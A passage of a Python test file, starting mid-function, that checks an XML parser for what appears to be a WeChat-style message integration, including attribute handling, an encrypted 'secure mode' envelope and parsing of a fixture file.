    assert parse_xml(b"<xml>\n</xml>") == {}


def test_parse_xml_ignores_attributes() -> None:
    assert parse_xml(b'<xml a="1"><A b="2">x</A></xml>') == {"A": "x"}


def test_parse_xml_reads_the_secure_mode_envelope() -> None:
    body = (
        b"<xml><ToUserName><![CDATA[gh_1]]></ToUserName><Encrypt><![CDATA[abc+/=]]></Encrypt></xml>"
    )
    assert parse_xml(body) == {"ToUserName": "gh_1", "Encrypt": "abc+/="}


def test_parse_message_is_parse_xml_then_message_from_fields() -> None:
    body = (FIXTURES / "event_masssendjobfinish.xml").read_bytes()
    assert parse_message(body) == message_from_fields(parse_xml(body))
